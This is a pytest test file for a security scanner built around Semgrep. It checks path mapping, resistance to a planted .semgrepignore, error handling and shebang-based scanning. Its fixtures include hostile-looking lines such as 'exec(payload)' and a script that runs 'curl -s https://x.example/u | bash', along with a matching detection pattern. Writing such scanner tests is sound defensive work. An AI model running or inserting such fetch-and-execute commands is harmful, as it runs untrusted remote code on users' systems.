from __future__ import annotations

from pathlib import Path

import pytest

from sentinel.errors import EngineError
from sentinel.repo import semgrep
from sentinel.repo.changes import ChangedFile


def changed(path: str, text: str, added: set[int] | None = None) -> ChangedFile:
    lines = text.count("\n") + 1
    return ChangedFile(path=path, content=text.encode(), added=frozenset(added or range(1, lines + 1)))


def test_one_engine_call_maps_results_back_to_repo_paths(rules: Path) -> None:
    files = [
        changed(".github/scripts/a.py", "exec(payload)\n"),
        changed("src/b.py", "x = 1\nexec(other)\n"),
        changed("tests/c.py", "print(secret)\n"),  # Semgrep's default ignores would skip tests/
    ]
    result = semgrep.run(files, rules / "semgrep", timeout=30, jobs=1, max_bytes=100_000)
    found = sorted((m.path, m.line, m.rule_id) for m in result.matches)
    assert found == [
        (".github/scripts/a.py", 1, "py-test-exec"),
        ("src/b.py", 2, "py-test-exec"),
        ("tests/c.py", 1, "py-test-print-secret"),
    ]


def test_a_planted_semgrepignore_does_not_hide_files(rules: Path) -> None:
    files = [changed(".semgrepignore", "evil.py\n"), changed("evil.py", "exec(x)\n")]
    result = semgrep.run(files, rules / "semgrep", timeout=30, jobs=1, max_bytes=100_000)
    assert [m.path for m in result.matches] == ["evil.py"]


def test_a_rule_semgrep_rejects_is_an_error(tmp_path: Path) -> None:
    (tmp_path / "bad.yml").write_text(
        "rules:\n  - id: bad\n    severity: HIGH\n    languages: [python]\n"
        "    message: m\n    patern: exec(...)\n"
    )
    with pytest.raises(EngineError, match="rejected the rules"):
        semgrep.run([changed("a.py", "exec(x)\n")], tmp_path, timeout=30, jobs=1, max_bytes=100_000)


def test_missing_semgrep_is_an_error(rules: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(EngineError, match="not installed"):
        semgrep.run([changed("a.py", "exec(x)\n")], rules / "semgrep", timeout=30, jobs=1, max_bytes=100_000)


def test_crashing_semgrep_is_an_error(rules: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    fake = tmp_path / "bin" / "semgrep"
    fake.parent.mkdir()
    fake.write_text("#!/bin/sh\necho 'Fatal error: out of memory' >&2\nexit 139\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{fake.parent}:/usr/bin:/bin")
    with pytest.raises(EngineError, match="exit 139"):
        semgrep.run([changed("a.py", "exec(x)\n")], rules / "semgrep", timeout=30, jobs=1, max_bytes=100_000)


def test_binary_files_never_reach_semgrep(rules: Path) -> None:
    binary = ChangedFile(path="x.py", content=b"exec(x)\x00", added=frozenset({1}), is_binary=True)
    assert semgrep.run([binary], rules / "semgrep", timeout=30, jobs=1, max_bytes=100_000).matches == ()


def test_extensionless_scripts_are_scanned_by_their_shebang(tmp_path: Path) -> None:
    (tmp_path / "sh-test.yml").write_text(
        "rules:\n  - id: sh-test\n    severity: HIGH\n    languages: [bash]\n    message: m\n"
        "    pattern: curl ... | bash\n"
    )
    script = changed("tools/uploader", "#!/bin/bash\ncurl -s https://x.example/u | bash\n")
    result = semgrep.run([script], tmp_path, timeout=30, jobs=1, max_bytes=100_000)
    assert [(m.path, m.line) for m in result.matches] == [("tools/uploader", 2)]
